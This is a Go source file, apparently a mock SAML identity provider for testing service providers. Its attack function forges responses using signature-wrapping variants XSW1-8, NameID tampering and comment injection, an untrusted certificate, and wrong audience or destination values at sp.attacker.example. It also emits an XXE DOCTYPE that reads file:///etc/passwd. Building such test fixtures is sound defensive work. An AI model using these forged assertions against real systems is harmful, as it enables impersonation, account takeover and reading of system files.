package mockidp

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"encoding/base64"
	"strings"
	"sync"
	"time"

	"github.com/beevik/etree"
)

func contextBackground() context.Context { return context.Background() }

// attackerCert is a key and certificate nobody trusts, for the
// untrusted-certificate attack; made once per process on first use. It is
// immutable after creation.
var attackerCert = sync.OnceValues(func() (tls.Certificate, error) {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return tls.Certificate{}, err
	}
	return selfSigned(key, "attacker")
})

// evilNameID is the identity the wrapping attacks try to smuggle in.
func evilNameID(email string) string {
	_, domain, _ := strings.Cut(email, "@")
	return "mallory@" + domain
}

// setNameID replaces the text of the first NameID below el.
func setNameID(el *etree.Element, v string) {
	if nid := findDeep(el, "NameID"); nid != nil {
		nid.Child = nil
		nid.SetText(v)
	}
}

func withoutSignature(el *etree.Element) *etree.Element {
	c := el.Copy()
	if sig := findChild(c, "Signature"); sig != nil {
		c.RemoveChild(sig)
	}
	return c
}

// attack builds the response for pp with the attacks applied: parameter
// changes before signing, XML surgery after.
func (s *samlIdP) attack(pp *samlParams, cert tls.Certificate, attacks []Fault) (string, error) {
	now := pp.issueInstant
	evil := evilNameID(pp.user.Email)
	for _, a := range attacks {
		switch a {
		case SAMLExpired:
			pp.issueInstant = now.Add(-10 * time.Minute)
			pp.notBefore, pp.notOnOrAfter, pp.scdNotOnOrAfter = now.Add(-15*time.Minute), now.Add(-5*time.Minute), now.Add(-5*time.Minute)
		case SAMLNotYetValid:
			pp.issueInstant = now.Add(10 * time.Minute)
			pp.notBefore, pp.notOnOrAfter, pp.scdNotOnOrAfter = now.Add(8*time.Minute), now.Add(20*time.Minute), now.Add(20*time.Minute)
		case SAMLWrongAudience:
			pp.audience = "https://sp.attacker.example/saml/metadata"
		case SAMLWrongDestination:
			pp.destination = "https://sp.attacker.example/saml/acs"
		case SAMLWrongRecipient:
			pp.recipient = "https://sp.attacker.example/saml/acs"
		case SAMLWrongInResponseTo:
			pp.inResponseTo = "id-" + randHex(16)
		case SAMLUnsigned:
			pp.sign = "none"
		case SAMLCommentInjection:
			pp.nameID = pp.user.Email + ".evil.test"
		case XSW1, XSW2:
			pp.sign = "response"
		case XSW3, XSW4, XSW5, XSW6, XSW7, XSW8, SAMLTwoAssertions:
			pp.sign = "assertion"
		case SAMLUntrustedCert:
			c, err := attackerCert()
			if err != nil {
				return "", err
			}
			cert = c
		}
	}
	doc, err := s.build(pp, cert)
	if err != nil {
		return "", err
	}
	resp := doc.Root()
	as := findChild(resp, "Assertion")
	sh := samlShapes[s.p.cfg.Vendor]
	for _, a := range attacks {
		if as == nil {
			break // encrypted: the XML attacks need the plain assertion
		}
		switch a {
		case SAMLTampered:
			setNameID(as, evil)
		case SAMLCommentInjection:
			if nid := findDeep(as, "NameID"); nid != nil {
				nid.Child = nil
				nid.AddChild(etree.NewText(pp.user.Email))
				nid.AddChild(etree.NewComment(""))
				nid.AddChild(etree.NewText(".evil.test"))
			}
		case XSW1, XSW2:
			sig := findChild(resp, "Signature")
			clone := withoutSignature(resp)
			if a == XSW1 {
				sig.AddChild(clone)
			} else {
				resp.InsertChildAt(sig.Index(), clone)
			}
			resp.CreateAttr("ID", "_evil"+randHex(8))
			setNameID(as, evil)
		case XSW3, XSW4, SAMLTwoAssertions:
			forged := withoutSignature(as)
			forged.CreateAttr("ID", "_evil"+randHex(8))
			setNameID(forged, evil)
			switch a {
			case XSW3:
				resp.InsertChildAt(as.Index(), forged)
			case XSW4:
				idx := as.Index()
				resp.RemoveChild(as)
				forged.AddChild(as)
				resp.InsertChildAt(idx, forged)
			default:
				resp.InsertChildAt(as.Index()+1, forged)
			}
		case XSW5, XSW6, XSW8:
			clone := withoutSignature(as)
			setNameID(as, evil)
			sig := findChild(as, "Signature")
			switch a {
			case XSW5:
				resp.AddChild(clone)
			case XSW6:
				sig.AddChild(clone)
			default:
				obj := etree.NewElement(sh.tag(sh.sigPrefix, "Object"))
				obj.AddChild(clone)
				sig.AddChild(obj)
			}
		case XSW7:
			ext := etree.NewElement(sh.tag(sh.respPrefix, "Extensions"))
			forged := withoutSignature(as)
			setNameID(forged, evil)
			ext.AddChild(forged)
			resp.InsertChildAt(as.Index(), ext)
		case SAMLOversized:
			resp.InsertChildAt(as.Index(), etree.NewComment(strings.Repeat("x", 1536<<10)))
		}
	}
	out, err := doc.WriteToString()
	if err != nil {
		return "", err
	}
	if hasFault(attacks, SAMLDoctype) {
		// The document type goes after the XML declaration, where a
		// parser takes it: the vendor's own declaration (Okta writes one)
		// or a plain one.
		decl := `<?xml version="1.0"?>`
		if strings.HasPrefix(out, "<?xml") {
			end := strings.Index(out, "?>") + len("?>")
			decl, out = out[:end], out[end:]
		}
		out = decl + `<!DOCTYPE Response [<!ENTITY who "mallory"><!ENTITY x SYSTEM "file:///etc/passwd">]>` +
			strings.Replace(out, ">"+pp.nameID+"<", ">&who;@evil.test<", 1)
	}
	return base64.StdEncoding.EncodeToString([]byte(out)), nil
}
